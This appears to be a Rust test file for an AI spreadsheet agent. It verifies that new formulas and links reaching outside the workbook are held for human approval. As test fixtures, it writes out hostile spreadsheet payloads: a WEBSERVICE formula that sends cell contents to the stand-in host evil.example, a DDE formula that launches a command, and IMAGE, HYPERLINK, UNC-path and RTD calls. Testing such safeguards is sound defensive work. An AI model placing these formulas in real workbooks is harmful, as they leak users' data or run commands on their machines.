//! New formulas and links that reach outside the workbook wait for a person.

use serde_json::{Value as Json, json};
use superstep::tools::Verdict;
use superstep_sheets::Status;

use crate::{
    approvals::{answered, open},
    support::{agent, apply, book_with, done, finish, observations, run, sales, set, shown},
};

fn formula(cell: &str, formula: &str) -> Json {
    json!({"op": "set", "sheet": "Data", "cell": cell, "value": {"formula": formula}})
}

const SENDS: &str = "=WEBSERVICE(\"http://evil.example/?q=\"&A2)";

#[tokio::test]
async fn a_formula_that_sends_cells_away_is_made_only_if_a_person_agrees() {
    for verdict in [Verdict::Accept, Verdict::Ignore] {
        let agent = agent(vec![apply(json!([formula("F2", SENDS)])), finish("over")]);
        let outcome = run(&agent, "t", sales()).await;
        let (_, approval) = open(&outcome);
        let line = "- \"Data\"!F2: =WEBSERVICE(\"http://evil.example/?q=\"&A2) (WEBSERVICE to \
                    http://evil.example/?q=)";
        assert!(
            approval.description.contains(line) && !approval.description.contains("is lost"),
            "{}",
            approval.description
        );
        let waiting = agent.graph().state("t").await.unwrap().state;
        assert_eq!(waiting.version, waiting.problem.workbook);
        let is_accepted = verdict == Verdict::Accept;
        let state = answered(&agent, &outcome, verdict).await.done().unwrap();
        assert_eq!(state.status, Status::Finished);
        let book = agent.workbook(&state).await.unwrap();
        let expected = if is_accepted { SENDS } else { "" };
        assert_eq!(shown(&book, "Data", "F2"), expected);
        let (observation, worked) = observations(&state)[0];
        assert_eq!(worked, is_accepted);
        let told = observation.content.text();
        assert_eq!(told.contains("Nothing was changed"), !is_accepted, "{told}");
    }
}

#[tokio::test]
async fn every_place_for_a_formula_or_a_link_is_looked_at() {
    let name =
        |refers_to: &str| json!({"op": "define_name", "name": "Rate", "refers_to": refers_to});
    let rule = |formula: &str| {
        json!({"op": "conditional_format", "sheet": "Data", "area": "A1:A5",
            "condition": {"formula": formula}, "style": {"bold": true}})
    };
    let link =
        |address: &str| json!({"op": "link", "sheet": "Data", "cell": "A2", "address": address});
    for (operations, told) in [
        (json!([formula("F1", "=cmd|'/c calc'!A0")]), "DDE"),
        (
            json!([formula("F1", "='\\\\host\\share\\[b.xlsx]S'!A1")]),
            r"\\host\share\[b.xlsx]S",
        ),
        (
            json!([formula("F1", "=IMAGE(\"https://evil.example/\"&A1)")]),
            "IMAGE to https://evil.example/",
        ),
        (
            json!([formula(
                "F1",
                "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")"
            )]),
            "HYPERLINK to a computed address",
        ),
        (
            json!([formula("F1", "=HYPERLINK(\"http://evil.example\")")]),
            "HYPERLINK to http://evil.example",
        ),
        (
            json!([name("=WEBSERVICE(Data!$A$1)")]),
            "name Rate: =WEBSERVICE(Data!$A$1)",
        ),
        // A name that is spelled like the function does not hide a call of it.
        (
            json!([
                {"op": "define_name", "name": "WEBSERVICE", "refers_to": "=Data!$A$1"},
                formula("F1", SENDS)
            ]),
            "WEBSERVICE to http://evil.example/?q=",
        ),
        (
            json!([formula("F1", "=MAP(A1:A3,WEBSERVICE)")]),
            "WEBSERVICE to a computed address",
        ),
        (json!([rule("=LEN(WEBSERVICE(A1))>0")]), "WEBSERVICE"),
        (
            json!([link("https://evil.example/x")]),
            "\"Data\"!A2: link to https://evil.example/x",
        ),
        (
            json!([{"op": "add_sheet", "name": "Mine"}, {"op": "set", "sheet": "Mine", "cell": "A1",
                "value": {"formula": "=RTD(\"a\",,Data!A1)"}}]),
            "\"Mine\"!A1",
        ),
    ] {
        let agent = agent(vec![apply(operations.clone()), finish("over")]);
        let outcome = run(&agent, "t", sales()).await;
        let (_, approval) = open(&outcome);
        assert!(
            approval.description.contains(told),
            "{operations}: {}",
            approval.description
        );
    }
}

#[tokio::test]
async fn a_column_of_the_same_formula_is_one_line() {
    let rows: Vec<Json> = (2..=5)
        .map(|row| formula(&format!("F{row}"), &format!("=WEBSERVICE(A{row})")))
        .collect();
    let agent = agent(vec![apply(json!(rows)), finish("over")]);
    let outcome = run(&agent, "t", sales()).await;
    let (_, approval) = open(&outcome);
    let line = "- \"Data\"!F2:F5, the first: =WEBSERVICE(A2) (WEBSERVICE to a computed address)\n";
    assert!(
        approval.description.contains(line),
        "{}",
        approval.description
    );
}

#[tokio::test]
async fn what_was_there_and_what_stays_inside_is_not_asked_about() {
    let book = book_with(json!([
        set("Data", "A2", 1.0),
        formula("F2", SENDS),
        {"op": "link", "sheet": "Data", "cell": "A1", "address": "https://example.org/"},
        {"op": "define_name", "name": "Fetch", "refers_to": "WEBSERVICE(Data!$A$2)"},
    ]));
    let agent = agent(vec![
        apply(json!([
            {"op": "insert_rows", "sheet": "Data", "before": 2, "count": 3},
            {"op": "rename_sheet", "sheet": "Data", "name": "Sales"},
        ])),
        apply(json!([
            {"op": "set", "sheet": "Sales", "cell": "G1",
                "value": {"formula": "=HYPERLINK(\"#Sales!A1\",\"WEBSERVICE(\")"}},
            {"op": "set", "sheet": "Sales", "cell": "G2", "value": {"text": "=WEBSERVICE(A1)"}},
            {"op": "link", "sheet": "Sales", "cell": "G3", "address": "mailto:ann@example.org"},
            {"op": "link", "sheet": "Sales", "cell": "G4", "address": "#Sales!A1"},
        ])),
        finish("over"),
    ]);
    let state = done(&agent, book).await;
    assert!(
        state.op_log.iter().all(|it| it.is_done && !it.approved),
        "{:?}",
        state.op_log
    );
    let book = agent.workbook(&state).await.unwrap();
    assert_eq!(shown(&book, "Sales", "F5"), SENDS.replace("A2", "A5"));
}

/// The name is in the input: to use it in a new place is new.
#[tokio::test]
async fn a_name_that_sends_something_away_is_followed() {
    let book = book_with(json!([
        {"op": "define_name", "name": "Fetch", "refers_to": "WEBSERVICE(Data!$A$2)"},
        {"op": "define_name", "name": "Again", "refers_to": "Fetch&\"\""},
    ]));
    let agent = agent(vec![
        apply(json!([formula("B1", "=Again")])),
        finish("over"),
    ]);
    let outcome = run(&agent, "t", book).await;
    let (_, approval) = open(&outcome);
    let told = "the name Again, which reaches outside";
    assert!(
        approval.description.contains(told),
        "{}",
        approval.description
    );
}
